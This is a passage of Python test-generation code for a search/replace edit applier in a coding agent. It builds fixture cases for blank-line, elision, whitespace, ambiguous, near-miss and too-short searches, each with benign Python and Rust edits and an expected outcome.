            return ToolResult.error(f"no such file: {args['path']}")
        if path.is_dir():
            return ToolResult.error(f"refusing to delete a directory: {args['path']}")
        path.unlink()
''')
    simple("bl-big-py-trailing-blank", C, {"agent/tools.py": BIG_PY}, "agent/tools.py", old, new,
           "`delete_file` must not be used on directories:", search=old + "\n", expect=AB)

    old = S(r'''
        let input = input.trim();
        let Some(body) = input.strip_prefix('/') else {
''')
    new = S(r'''
        let input = input.trim();
        let Some(body) = input.strip_prefix('/').or_else(|| input.strip_prefix(':')) else {
''')
    simple("bl-big-rs-leading-blank", C, {"src/commands.rs": BIG_RS}, "src/commands.rs", old,
           new, "Accept vim-style `:` as a command prefix too:", search="\n" + old, expect=AB)

    # after dropping the blank line the text is found three times -> refuse
    search = "\n        if row is None:\n            return None\n"
    replace = ("\n        if row is None:\n            log.debug(\"no row\")\n"
               "            return None\n")
    simple("bl-ambiguous-after-dropping-blank", C, {"app/services/users.py": PY_USERS},
           "app/services/users.py", None, None, "Log missing rows:", search=search,
           replace=replace, expect=R_AMB)

    old = S(r'''
    parser = argparse.ArgumentParser(prog="agent", description="Run the coding agent.")
    parser.add_argument("task", help="task description")
''')
    new = S(r'''
    parser = argparse.ArgumentParser(prog="trae", description="Run the coding agent.")
    parser.add_argument("task", help="task description")
''')
    simple("bl-extra-leading-blank-both-sides-python", C, {"agent/cli.py": PY_CLI},
           "agent/cli.py", old, new, "The binary is called `trae` now:", search="\n" + old,
           replace="\n" + new, expect=AB)


# ======================================================================================
# elision
# ======================================================================================

def el(name, files, path, pieces, prose, expect=AE, **kw):
    """pieces: list of (old, new); SEARCH/REPLACE join them with '...' lines."""
    search = "...\n".join(o for o, _ in pieces)
    replace = "...\n".join(n for _, n in pieces)
    edits = [(path, o, n) for o, n in pieces if o != n] if expect.startswith("apply") else []
    case(name, "elision", files, [prose, Blk(path, search, replace, expect, **kw)], edits)


def elision_cases():
    el("el-py-head-and-tail-of-method", {"app/services/users.py": PY_USERS},
       "app/services/users.py", [
           ("    def deactivate(self, user_id: int) -> bool:\n",
            "    def deactivate(self, user_id: int) -> bool:\n"),
           (S(r'''
        self.db.execute("UPDATE users SET active = 0 WHERE id = ?", (user_id,))
        return True
'''), S(r'''
        self.db.execute(
            "UPDATE users SET active = 0, deactivated_at = CURRENT_TIMESTAMP WHERE id = ?",
            (user_id,),
        )
        log.info("deactivated user %s", user_id)
        return True
''')),
       ], "Record when the user was deactivated (the lookup part is unchanged):")

    el("el-rs-display-impl", {"src/stack.rs": RS_STACK}, "src/stack.rs", [
        ("    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {\n"
         "        write!(f, \"[\")?;\n",
         "    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {\n"
         "        write!(f, \"<\")?;\n"),
        ("        write!(f, \"]\")\n    }\n", "        write!(f, \">\")\n    }\n"),
    ], "Render stacks with angle brackets so they're not confused with Vec debug output:")

    el("el-big-py-class-head-and-run-tail", {"agent/tools.py": BIG_PY}, "agent/tools.py", [
        ("class RunShellTool(Tool):\n", "class RunShellTool(Tool):\n"),
        (S(r'''
        output = proc.stdout + proc.stderr
        if proc.returncode != 0:
            return ToolResult.error(f"exit code {proc.returncode}\n{output}")
        return ToolResult.ok(output)
'''), S(r'''
        output = proc.stdout + proc.stderr
        if len(output) > 50_000:
            output = output[:25_000] + "\n... [output truncated] ...\n" + output[-25_000:]
        if proc.returncode != 0:
            return ToolResult.error(f"exit code {proc.returncode}\n{output}")
        return ToolResult.ok(output)
''')),
    ], "Truncate huge shell outputs in `RunShellTool.run`:")

    el("el-big-rs-long-match", {"src/commands.rs": BIG_RS}, "src/commands.rs", [
        (S(r'''
    pub fn execute(&self, session: &mut Session) -> Result<Outcome, String> {
        match self {
'''), S(r'''
    pub fn execute(&self, session: &mut Session) -> Result<Outcome, String> {
        session.log_command(self);
        match self {
''')),
        (S(r'''
            Command::Verbose(on) => {
                session.config.verbose = *on;
                Ok(Outcome::Continue)
            }
        }
    }
'''), S(r'''
            Command::Verbose(on) => {
                session.config.verbose = *on;
                session.print(if *on { "verbose on" } else { "verbose off" });
                Ok(Outcome::Continue)
            }
        }
    }
''')),
    ], "Log every command and confirm `/verbose`:")

    el("el-py-two-elisions-three-pieces", {"agent/cli.py": PY_CLI}, "agent/cli.py", [
        (S(r'''
def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
'''), S(r'''
def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    if args.verbose:
        logging.basicConfig(level=logging.DEBUG)
''')),
        (S(r'''
        print("interrupted", file=sys.stderr)
        return 130
'''), S(r'''
        print("interrupted", file=sys.stderr)
        return 130
''')),
        ("    print(result.summary)\n    return 0\n",
         "    print(result.summary, flush=True)\n    return 0\n"),
    ], "Enable debug logging with --verbose and flush the summary:")

    el("el-rs-enum-first-and-last-variant", {"src/error.rs": RS_ERROR}, "src/error.rs", [
        ("pub enum AgentError {\n    Io(io::Error),\n",
         "#[non_exhaustive]\npub enum AgentError {\n    Io(io::Error),\n"),
        ("    Cancelled,\n}\n", "    Cancelled,\n    Budget { used: u32, limit: u32 },\n}\n"),
    ], "Add a budget variant and mark the enum non-exhaustive:")

    el("el-py-class-docstring-and-last-method", {"utils/cache.py": PY_CACHE}, "utils/cache.py", [
        ('class LRUCache:\n    """Least-recently-used cache.\n',
         'class LRUCache:\n    """Least-recently-used cache with hit/miss statistics.\n'),
        (S(r'''
    def clear(self) -> None:
        self._data.clear()
        self.hits = 0
        self.misses = 0
'''), S(r'''
    def clear(self) -> None:
        self._data.clear()
        self.hits = 0
        self.misses = 0

    def hit_rate(self) -> float:
        total = self.hits + self.misses
        return self.hits / total if total else 0.0
''')),
    ], "Add a `hit_rate` helper:")

    el("el-rs-test-module", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", [
        ("#[cfg(test)]\nmod tests {\n    use super::*;\n",
         "#[cfg(test)]\nmod tests {\n    use super::*;\n    use pretty_assertions::assert_eq;\n"),
        (S(r'''
        assert_eq!(lx.next_token(), Token::Ident("foo".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }
}
'''), S(r'''
        assert_eq!(lx.next_token(), Token::Ident("foo".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }

    #[test]
    fn lexes_underscore_ident() {
        let mut lx = Lexer::new("foo_bar");
        assert_eq!(lx.next_token(), Token::Ident("foo_bar".into()));
    }
}
''')),
    ], "Better diffs in test failures, plus one more test:")

    el("el-py-signature-and-loop-tail", {"client/http.py": PY_HTTP}, "client/http.py", [
        ("def post_json(url: str, payload: dict, *, timeout: float = 30.0, retries: int = 3) "
         "-> dict:\n",
         "def post_json(url: str, payload: dict, *, timeout: float = 30.0, retries: int = 5) "
         "-> dict:\n"),
        ("        time.sleep(delay)\n        delay *= 2\n",
         "        time.sleep(delay + random.uniform(0, delay / 2))\n        delay *= 2\n"),
    ], "More retries, with jitter:")

    el("el-rs-function-head-and-tail", {"src/config.rs": RS_CONFIG}, "src/config.rs", [
        ("    pub fn from_env() -> Self {\n        let mut cfg = Config::default();\n",
         "    pub fn from_env() -> Self {\n        let mut cfg = Config::default();\n"),
        (S(r'''
        if std::env::var("AGENT_VERBOSE").is_ok() {
            cfg.verbose = true;
        }
        cfg
    }
'''), S(r'''
        if let Ok(v) = std::env::var("AGENT_VERBOSE") {
            cfg.verbose = !matches!(v.as_str(), "" | "0" | "false");
        }
        cfg
    }
''')),
    ], "`AGENT_VERBOSE=0` should not enable verbose mode:")

    # literal '...' lines in the file: the exact match comes first, no elision involved
    old = "    def flush(self) -> None:\n        ...\n"
    new = "    def flush(self) -> None:\n        ...\n\n    def close(self) -> None:\n        ...\n"
    case("el-literal-ellipsis-lines-match-exactly", "elision", {"agent/streams.py": PY_STREAMS}, [
        "Writers need a `close` too:",
        Blk("agent/streams.py", old, new, AX),
    ], [("agent/streams.py", old, new)])

    # ---- refused: a piece is not unique ----
    el("el-refused-tail-piece-twice", {"app/services/users.py": PY_USERS}, "app/services/users.py", [
        ("    def get_user(self, user_id: int) -> Optional[User]:\n",
         "    def get_user(self, user_id: int) -> Optional[User]:\n"),
        (S(r'''
        if row is None:
            return None
        return User.from_row(row)
'''), S(r'''
        if row is None:
            log.debug("user %s not found", user_id)
            return None
        return User.from_row(row)
''')),
    ], "Log misses in `get_user`:", expect=R_AMB)

    el("el-refused-head-piece-three-times", {"src/shapes.rs": RS_SHAPES}, "src/shapes.rs", [
        ("    fn area(&self) -> f64 {\n", "    fn area(&self) -> f64 {\n"),
        ("        self.side * self.side\n    }\n", "        self.side.powi(2)\n    }\n"),
    ], "Use `powi` for squares:", expect=R_AMB)

    el("el-refused-big-py-common-pieces", {"agent/tools.py": BIG_PY}, "agent/tools.py", [
        ("    def parameters(self) -> dict:\n        return {\n",
         "    def parameters(self) -> dict:\n        return {\n"),
        ('            "required": ["path"],\n        }\n',
         '            "required": ["path"],\n            "additionalProperties": False,\n'
         '        }\n'),
    ], "Forbid extra arguments for the path-based tool:", expect=R_AMB)

    el("el-refused-big-rs-common-tail", {"src/commands.rs": BIG_RS}, "src/commands.rs", [
        ("            Command::Add(files) => {\n", "            Command::Add(files) => {\n"),
        ("                Ok(Outcome::Continue)\n            }\n",
         "                session.print(\"files added\");\n                Ok(Outcome::Continue)\n"
         "            }\n"),
    ], "Confirm `/add`:", expect=R_AMB)

    el("el-refused-both-pieces-twice", {"app/models.py": PY_MODELS}, "app/models.py", [
        ("    def to_dict(self) -> dict[str, Any]:\n        return {\n",
         "    def to_dict(self) -> dict[str, Any]:\n        return {\n"),
        ('            "id": self.id,\n', '            "id": str(self.id),\n'),
    ], "IDs are strings in the JSON API:", expect=R_AMB)


# ======================================================================================
# whitespace
# ======================================================================================

def whitespace_cases():
    C = "whitespace"

    http_ws = add_trailing_ws(PY_HTTP, "    data = json.dumps(payload)", "  ")
    http_ws = add_trailing_ws(http_ws, "    delay = 1.0", " ")
    old_file = '    data = json.dumps(payload).encode("utf-8")  \n    delay = 1.0 \n'
    search = '    data = json.dumps(payload).encode("utf-8")\n    delay = 1.0\n'
    new = ('    data = json.dumps(payload, separators=(",", ":")).encode("utf-8")\n'
           '    delay = 0.5\n')
    simple("ws-file-has-trailing-spaces", C, {"client/http.py": http_ws}, "client/http.py",
           old_file, new, "Compact JSON and a shorter first backoff:", search=search, expect=AW)

    old = "    m = mean(values)\n    var = sum((v - m) ** 2 for v in values) / len(values)\n"
    search = "    m = mean(values)   \n    var = sum((v - m) ** 2 for v in values) / len(values) \n"
    new = ("    m = mean(values)\n"
           "    var = sum((v - m) ** 2 for v in values) / max(len(values) - 1, 1)\n")
    simple("ws-search-has-trailing-spaces", C, {"src/calc.py": PY_CALC}, "src/calc.py", old, new,
           "Use the sample variance (n - 1):", search=search, expect=AW)

    old = "MAX_RETRIES        = 3\n"
    new = "MAX_RETRIES        = 5\n"
    simple("ws-aligned-assignment-single-space-in-search", C, {"agent/settings.py": PY_SETTINGS},
           "agent/settings.py", old, new, "Bump the retry count:", search="MAX_RETRIES = 3\n",
           expect=AW)

    old = '    "ollama":    {"base_url": "http://localhost:11434",     "env": None},\n'
    search = '    "ollama": {"base_url": "http://localhost:11434", "env": None},\n'
    new = ('    "ollama":    {"base_url": "http://127.0.0.1:11434",     "env": None},\n')
    simple("ws-aligned-dict-row", C, {"agent/settings.py": PY_SETTINGS}, "agent/settings.py", old,
           new, "Use the IPv4 loopback address for Ollama:", search=search, expect=AW)

    old = "    pub max_tokens: u32,         // completion budget per call\n"
    search = "    pub max_tokens: u32, // completion budget per call\n"
    new = "    pub max_tokens: u32,         // completion budget per call (0 = provider default)\n"
    simple("ws-rs-aligned-trailing-comment", C, {"src/limits.rs": RS_LIMITS}, "src/limits.rs",
           old, new, "Document the meaning of zero:", search=search, expect=AW)

    old = "STEP_LIMIT = 40\t# tool calls before we give up\n"
    search = "STEP_LIMIT = 40  # tool calls before we give up\n"
    new = "STEP_LIMIT = 60\t# tool calls before we give up\n"
    simple("ws-tab-versus-spaces-before-comment", C, {"agent/defaults.py": PY_DEFAULTS},
           "agent/defaults.py", old, new, "Give the agent more steps:", search=search, expect=AW)

    inv_ws = PY_INVENTORY.replace("    quantity: int = 0\n\n", "    quantity: int = 0\n        \n")
    assert inv_ws != PY_INVENTORY
    old_file = "    quantity: int = 0\n        \n    def total_value(self) -> int:\n"
    search = "    quantity: int = 0\n\n    def total_value(self) -> int:\n"
    new = "    quantity: int = 0\n\n    @property\n    def total_value(self) -> int:\n"
    simple("ws-whitespace-only-blank-line-in-file", C, {"app/inventory.py": inv_ws},
           "app/inventory.py", old_file, new, "Make `Item.total_value` a property:",
           search=search, expect=AW)

    stack_ws = add_trailing_ws(RS_STACK, "        self.items.push(item);", "\t")
    old = "    pub fn push(&mut self, item: T) {\n        self.items.push(item);\t\n    }\n"
    search = "    pub fn push(&mut self, item: T) {\n        self.items.push(item);\n    }\n"
    new = ("    pub fn push(&mut self, item: T) {\n        self.items.push(item);\n"
           "        debug_assert!(!self.items.is_empty());\n    }\n")
    simple("ws-rs-trailing-tab-in-file", C, {"src/stack.rs": stack_ws}, "src/stack.rs", old, new,
           "Small sanity check in `push`:", search=search, expect=AW)

    old = 'def truncate(text: str, width: int, suffix: str = "...") -> str:\n'
    search = 'def truncate(text: str,  width: int,  suffix: str = "...") -> str:\n'
    new = 'def truncate(text: str, width: int, suffix: str = "…") -> str:\n'
    simple("ws-double-spaces-in-search", C, {"utils/text.py": PY_TEXT}, "utils/text.py", old, new,
           "Use a single ellipsis character as the default suffix:", search=search, expect=AW)

    old = "            Some('+') => Token::Plus,\n            Some('-') => Token::Minus,\n"
    search = "            Some('+')  =>  Token::Plus,\n            Some('-')  =>  Token::Minus,\n"
    new = ("            Some('+') => Token::Plus,\n            Some('-') | Some('−') => "
           "Token::Minus,\n")
    simple("ws-rs-match-arms-extra-spaces", C, {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", old,
           new, "Accept the Unicode minus sign:", search=search, expect=AW)

    cache_ws = add_trailing_ws(PY_CACHE, "        entry = self._data.get(key)", "   ")
    old = ("        entry = self._data.get(key)   \n        if entry is None:\n"
           "            self.misses += 1\n")
    search = ("        entry = self._data.get(key)\n        if entry  is  None:\n"
              "            self.misses += 1   \n")
    new = ("        entry = self._data.get(key)\n        if entry is None:\n"
           "            self.misses += 1\n            self._on_miss(key)\n")
    simple("ws-mixed-differences-over-three-lines", C, {"utils/cache.py": cache_ws},
           "utils/cache.py", old, new, "Call the miss hook:", search=search, expect=AW)

    big_ws = add_trailing_ws(BIG_PY, '        return ToolResult.ok(args["summary"])', "  ")
    old = '        return ToolResult.ok(args["summary"])  \n'
    search = '        return ToolResult.ok(args["summary"])\n'
    new = '        return ToolResult.ok(args["summary"].strip() or "done")\n'
    simple("ws-big-py-trailing-spaces", C, {"agent/tools.py": big_ws}, "agent/tools.py", old, new,
           "Never finish with an empty summary:", search=search, expect=AW)

    # trailing spaces on an unchanged context line: the REPLACE text is used verbatim
    users_ws = add_trailing_ws(PY_USERS, '    def rename(self, user_id: int, name: str) -> bool:',
                               "    ")
    old = ('    def rename(self, user_id: int, name: str) -> bool:    \n'
           '        user = self.get_user(user_id)\n')
    search = ('    def rename(self, user_id: int, name: str) -> bool:\n'
              '        user = self.get_user(user_id)\n')
    new = ('    def rename(self, user_id: int, name: str) -> bool:\n'
           '        name = name.strip()\n'
           '        user = self.get_user(user_id)\n')
    simple("ws-trailing-spaces-on-context-line-dropped", C,
           {"app/services/users.py": users_ws}, "app/services/users.py", old, new,
           "Strip the new name:", search=search, expect=AW)

    old = "    WORKERS  = 16\n"
    new = "    WORKERS  = 32\n"
    simple("ws-aligned-class-attribute-unique", C, {"config/envs.py": PY_ENVS}, "config/envs.py",
           old, new, "Production needs more workers:", search="    WORKERS = 16\n", expect=AW)

    old = "        self.steps.iter().filter(|s| !s.ok).count()\n"
    search = "        self.steps.iter().filter(|s|  !s.ok).count()\n"
    new = '        self.steps.iter().filter(|s| !s.ok && s.tool != "finish").count()\n'
    simple("ws-rs-double-space-in-closure", C, {"src/trajectory.rs": RS_TRAJ},
           "src/trajectory.rs", old, new, "The final `finish` call should not count as a failure:",
           search=search, expect=AW)


# ======================================================================================
# ambiguous
# ======================================================================================

def amb(name, files, path, search, replace, prose, **kw):
    case(name, "ambiguous", files, [prose, Blk(path, search, replace, R_AMB, **kw)])


def ambiguous_cases():
    U = {"app/services/users.py": PY_USERS}
    amb("amb-return-none-in-three-getters", U, "app/services/users.py",
        "        if row is None:\n            return None\n",
        "        if row is None:\n            raise LookupError(\"not found\")\n",
        "Raise instead of returning None when the row is missing:")

    amb("amb-same-return-in-two-methods", U, "app/services/users.py",
        "        return User.from_row(row)\n",
        "        user = User.from_row(row)\n        log.debug(\"loaded %s\", user.id)\n"
        "        return user\n",
        "Log loaded users:")

    amb("amb-rs-fn-signature-in-three-impls", {"src/shapes.rs": RS_SHAPES}, "src/shapes.rs",
        "    fn area(&self) -> f64 {\n",
        "    #[inline]\n    fn area(&self) -> f64 {\n",
        "Inline the area computation:")

    amb("amb-py-assert-in-two-tests", {"tests/test_parser.py": PY_TEST_PARSER},
        "tests/test_parser.py",
        "    assert result == [(\"a\", 1)]\n",
        "    assert result == [(\"a\", 1)], result\n",
        "Show the parsed result on failure:")

    amb("amb-rs-else-break-three-times", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs",
        "            } else {\n                break;\n            }\n",
        "            } else {\n                break;\n            }\n            // done\n",
        "Mark the end of the scanning loop:")

    amb("amb-rs-eof-assert-in-two-tests", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs",
        "        assert_eq!(lx.next_token(), Token::Eof);\n    }\n",
        "        assert_eq!(lx.next_token(), Token::Eof);\n"
        "        assert_eq!(lx.next_token(), Token::Eof, \"Eof must be sticky\");\n    }\n",
        "Check that Eof is returned repeatedly:")

    amb("amb-big-py-parameters-header", {"agent/tools.py": BIG_PY}, "agent/tools.py",
        '    def parameters(self) -> dict:\n        return {\n            "type": "object",\n',
        '    def parameters(self) -> dict:\n        return {\n            "type": "object",\n'
        '            "additionalProperties": False,\n',
        "Disallow unknown tool arguments:")

    amb("amb-big-rs-for-loop-in-two-arms", {"src/commands.rs": BIG_RS}, "src/commands.rs",
        "                for file in files {\n",
        "                for file in files.iter().filter(|f| !f.is_empty()) {\n",
        "Skip empty file names:")

    amb("amb-py-miss-counter-twice", {"utils/cache.py": PY_CACHE}, "utils/cache.py",
        "            self.misses += 1\n            return default\n",
        "            self.misses += 1\n            self._log_miss(key)\n            return default\n",
        "Log cache misses:")

    amb("amb-py-counter-reset-twice", {"utils/cache.py": PY_CACHE}, "utils/cache.py",
        "        self.hits = 0\n        self.misses = 0\n",
        "        self.hits = 0\n        self.misses = 0\n        self.evictions = 0\n",
        "Track evictions as well:")

    amb("amb-py-to-dict-header-twice", {"app/models.py": PY_MODELS}, "app/models.py",
        '    def to_dict(self) -> dict[str, Any]:\n        return {\n            "id": self.id,\n',
        '    def to_dict(self) -> dict[str, Any]:\n        return {\n            "id": self.id,\n'
        '            "type": type(self).__name__.lower(),\n',
        "Include the type in the serialised dict:")

    amb("amb-indent-fallback-two-offsets", {"agent/names.py": PY_NAMES}, "agent/names.py",
        'name = name.strip().lower()\nreturn _INVALID.sub("_", name)\n',
        'name = name.strip().casefold()\nreturn _INVALID.sub("_", name)\n',
        "Use casefold():")

    amb("amb-whitespace-fallback-two-spots", {"config/envs.py": PY_ENVS}, "config/envs.py",
        "    TIMEOUT = 30\n", "    TIMEOUT = 60\n", "Raise the timeout to 60 seconds:")

    amb("amb-duplicated-test-helper", {"tests/test_client.py": PY_TEST_CLIENT},
        "tests/test_client.py",
        S(r'''
def make_server(responses):
    server = FakeServer()
    for status, body in responses:
        server.queue(status, body)
    return server
'''),
        S(r'''
def make_server(responses, *, latency=0.0):
    server = FakeServer(latency=latency)
    for status, body in responses:
        server.queue(status, body)
    return server
'''),
        "Let tests simulate latency:")

    amb("amb-rs-two-display-impls", {"src/status.rs": RS_STATUS}, "src/status.rs",
        "        };\n        f.write_str(s)\n    }\n",
        "        };\n        f.pad(s)\n    }\n",
        "Use `pad` so width/alignment format flags work:")

    amb("amb-py-same-def-line-in-two-classes", {"app/inventory.py": PY_INVENTORY},
        "app/inventory.py",
        "    def total_value(self) -> int:\n",
        "    def total_value(self, currency: str = \"EUR\") -> int:\n",
        "Add a currency parameter:")

    amb("amb-py-lookup-guard-in-two-methods", U, "app/services/users.py",
        "        user = self.get_user(user_id)\n        if user is None:\n",
        "        user = self.get_user(user_id)\n        if user is None or not user.active:\n",
        "Treat inactive users as missing:")

    amb("amb-big-rs-parse-chain-twice", {"src/commands.rs": BIG_RS}, "src/commands.rs",
        "                value\n                    .parse()\n",
        "                value\n                    .trim()\n                    .parse()\n",
        "Trim the numeric argument before parsing:")

    amb("amb-rs-perimeter-signature-three-times", {"src/shapes.rs": RS_SHAPES}, "src/shapes.rs",
        "    fn perimeter(&self) -> f64 {\n",
        "    #[must_use]\n    fn perimeter(&self) -> f64 {\n",
        "Mark perimeter as must_use:")

    amb("amb-big-py-resolve-line-in-four-tools", {"agent/tools.py": BIG_PY}, "agent/tools.py",
        '        path = self.resolve(args["path"])\n',
        '        path = self.resolve(args["path"].strip())\n',
        "Strip whitespace from paths the model sends:")


# ======================================================================================
# near_miss
# ======================================================================================

def nm(name, files, path, search, replace, prose, **kw):
    case(name, "near_miss", files, [prose, Blk(path, search, replace, R_MISS, **kw)])


def near_miss_cases():
    CALC = {"src/calc.py": PY_CALC}
    nm("nm-renamed-variable", CALC, "src/calc.py",
       "    m = mean(values)\n    variance = sum((v - m) ** 2 for v in values) / len(values)\n"
       "    return math.sqrt(variance)\n",
       "    m = mean(values)\n    variance = sum((v - m) ** 2 for v in values) / (len(values) - 1)\n"
       "    return math.sqrt(variance)\n",
       "Use the sample standard deviation:")

    nm("nm-operator-changed", CALC, "src/calc.py",
       "    if b == 0.0:\n        raise ZeroDivisionError(\"division by zero\")\n",
       "    if b == 0.0:\n        return math.nan\n",
       "Return NaN instead of raising:")

    nm("nm-extra-hallucinated-line", {"app/services/users.py": PY_USERS}, "app/services/users.py",
       S(r'''
    def get_team(self, team_id: int) -> Optional[Team]:
        log.debug("loading team %s", team_id)
        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ?", (team_id,))
'''),
       S(r'''
    def get_team(self, team_id: int) -> Optional[Team]:
        log.debug("loading team %s", team_id)
        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ? AND archived = 0", (team_id,))
'''),
       "Skip archived teams:")

    nm("nm-two-lines-swapped", {"client/http.py": PY_HTTP}, "client/http.py",
       "import logging\nimport json\nimport time\n",
       "import logging\nimport json\nimport random\nimport time\n",
       "Import random:")

    nm("nm-line-missing-from-middle", {"utils/cache.py": PY_CACHE}, "utils/cache.py",
       S(r'''
    def put(self, key: Hashable, value: Any) -> None:
        if key in self._data:
            self._data.move_to_end(key)
        while len(self._data) > self.capacity:
'''),
       S(r'''
    def put(self, key: Hashable, value: Any) -> None:
        if key in self._data:
            self._data.move_to_end(key)
        self._data[key] = (time.monotonic(), value)
        while len(self._data) >= self.capacity + 1:
'''),
       "Rewrite the eviction condition:")

    nm("nm-stale-code-rs", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs",
       "    pub fn new(input: &'a str) -> Self {\n"
       "        Lexer { chars: input.chars().peekable(), pos: 0 }\n    }\n",
       "    pub fn new(input: &'a str) -> Self {\n"
       "        Lexer { chars: input.chars().peekable(), pos: 0, line: 1 }\n    }\n",
       "Track the line number too:")

    nm("nm-rs-different-method-call", {"src/stack.rs": RS_STACK}, "src/stack.rs",
       "    pub fn peek(&self) -> Option<&T> {\n        self.items.first()\n    }\n",
       "    pub fn peek(&self) -> Option<&T> {\n        self.items.last()\n    }\n",
       "`peek` must look at the top of the stack, i.e. the last element:")

    nm("nm-rs-type-changed", {"src/config.rs": RS_CONFIG}, "src/config.rs",
       "    pub model: String,\n    pub max_tokens: u64,\n",
       "    pub model: String,\n    pub max_tokens: u64,\n    pub max_input_tokens: u64,\n",
       "Separate input budget:")

    nm("nm-string-literal-reworded", {"src/error.rs": RS_ERROR}, "src/error.rs",
       "            AgentError::Parse { line, message } => {\n"
       "                write!(f, \"parse error at line {line}: {message}\")\n            }\n",
       "            AgentError::Parse { line, message } => {\n"
       "                write!(f, \"{line}: parse error: {message}\")\n            }\n",
       "Use the compiler-style `line: message` format:")

    nm("nm-big-py-hallucinated-argument", {"agent/tools.py": BIG_PY}, "agent/tools.py",
       S(r'''
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(args["content"], encoding=args.get("encoding", "utf-8"))
'''),
       S(r'''
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(args["content"], encoding=args.get("encoding", "utf-8"), newline="\n")
'''),
       "Always write LF line endings:")

    nm("nm-big-rs-help-text-differs", {"src/commands.rs": BIG_RS}, "src/commands.rs",
       '        table.insert("/diff", "show the diff");\n',
       '        table.insert("/diff", "show the diff against HEAD");\n',
       "Clarify `/diff`:")

    nm("nm-py-missing-self-parameter", {"utils/cache.py": PY_CACHE}, "utils/cache.py",
       "    def get(key: Hashable, default: Any = None) -> Any:\n"
       "        entry = self._data.get(key)\n",
       "    def get(key: Hashable, default: Any = None) -> Any:\n"
       "        entry = self._data.get(key) if key is not None else None\n",
       "Guard against None keys:")

    nm("nm-rs-identifier-case-differs", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs",
       "        match self.chars.next() {\n            None => Token::EOF,\n",
       "        match self.chars.next() {\n            None => Token::EOF,\n"
       "            Some('\\n') => Token::Newline,\n",
       "Emit newline tokens:")

    nm("nm-rs-missing-question-mark", {"src/trajectory.rs": RS_TRAJ}, "src/trajectory.rs",
       "        let file = File::create(path);\n        let mut w = BufWriter::new(file);\n",
       "        let file = File::create(path)?;\n        let mut w = BufWriter::new(file);\n",
       "Propagate the error from `File::create`:")

    nm("nm-hallucinated-comment-line", {"app/inventory.py": PY_INVENTORY}, "app/inventory.py",
       S(r'''
    def add(self, item: Item) -> None:
        # merge quantities when the SKU already exists
        if item.sku in self.items:
'''),
       S(r'''
    def add(self, item: Item) -> None:
        # merge quantities when the SKU already exists
        if item.sku in self.items and item.quantity:
'''),
       "Skip zero-quantity merges:")

    nm("nm-default-value-differs", {"app/inventory.py": PY_INVENTORY}, "app/inventory.py",
       "    def low_stock(self, threshold: int = 10) -> list[Item]:\n",
       "    def low_stock(self, threshold: int = 3) -> list[Item]:\n",
       "Lower the low-stock threshold:")

    nm("nm-quote-style-differs", {"client/http.py": PY_HTTP}, "client/http.py",
       "            with urllib.request.urlopen(req, timeout=timeout) as resp:\n"
       "                return json.loads(resp.read().decode('utf-8'))\n",
       "            with urllib.request.urlopen(req, timeout=timeout) as resp:\n"
       "                return json.load(resp)\n",
       "`json.load` can read the response directly:")

    nm("nm-rs-mut-self-instead-of-self", {"src/stack.rs": RS_STACK}, "src/stack.rs",
       "    pub fn len(&mut self) -> usize {\n        self.items.len()\n    }\n",
       "    pub const fn len(&self) -> usize {\n        self.items.len()\n    }\n",
       "Take `&self`:")

    case("nm-two-blocks-both-miss", "near_miss",
         {"src/shapes.rs": RS_SHAPES, "src/main.rs": RS_MAIN}, [
             "Two changes:",
             Blk("src/shapes.rs",
                 "impl Shape for Rectangle {\n    fn area(&self) -> f64 {\n"
                 "        self.width * self.height\n",
                 "impl Shape for Rectangle {\n    fn area(&self) -> f64 {\n"
                 "        (self.width * self.height).abs()\n", R_MISS),
             Blk("src/main.rs",
                 "    let cfg = Config::load();\n    if let Err(msg) = cfg.validate() {\n",
                 "    let cfg = Config::from_env();\n    if let Err(msg) = cfg.validate() {\n",
                 R_MISS),
         ])

    nm("nm-truncated-long-line", {"agent/cli.py": PY_CLI}, "agent/cli.py",
       '    parser.add_argument("--model", default="gpt-4o")\n',
       '    parser.add_argument("--model", default="gpt-4.1")\n',
       "Switch the default model:")


# ======================================================================================
# short
# ======================================================================================

def short_cases():
    C = "short"
    case("short-closing-brace", C, {"src/stack.rs": RS_STACK}, [
        "Close the impl properly and add a Default bound:",
        Blk("src/stack.rs", "}\n", "}\n\nimpl<T: Clone> Stack<T> {}\n", R_SHORT),
    ])

    case("short-counter-increment", C, {"utils/counter.py": PY_COUNTER}, [
        "Count only non-empty lines:",
        Blk("utils/counter.py", "            n += 1\n",
            "            if _.strip():\n                n += 1\n", R_SHORT),
    ])

    case("short-return-statement", C, {"utils/counter.py": PY_COUNTER}, [
        "Return the count as an int explicitly:",
        Blk("utils/counter.py", "    return n\n", "    return int(n)\n", R_SHORT),
    ])

    case("short-rs-ok-out", C, {"src/walker.rs": RS_WALKER}, [
        "Return the paths relative to the root:",
        Blk("src/walker.rs", "    Ok(out)\n",
            "    Ok(out.into_iter().map(|p| p.strip_prefix(root).unwrap().to_path_buf()).collect())\n",
            R_SHORT),
    ])

    case("short-nine-characters-unique", C, {"agent/pager.py": PY_PAGER}, [
        "Show more lines per page:",
        Blk("agent/pager.py", "    limit = 100\n", "    limit = 200\n", R_SHORT),
    ])

    case("short-rs-unit-ok", C, {"src/config.rs": RS_CONFIG}, [
        "Log successful validation:",
        Blk("src/config.rs", "        Ok(())\n",
            "        log::debug!(\"configuration ok\");\n        Ok(())\n", R_SHORT),
    ])

    old, new = "    limit = 1000\n", "    limit = 2000\n"
    simple("short-ten-characters-unique-applied", C, {"agent/history.py": PY_HISTORY},
           "agent/history.py", old, new, "Keep more history:")

    old = "    return None\n"
    new = "    raise FileNotFoundError(\"no trae.toml found in \" + str(start) + \" or its parents\")\n"
    simple("short-return-none-exactly-ten-applied", C, {"agent/find_config.py": PY_FIND_CONFIG},
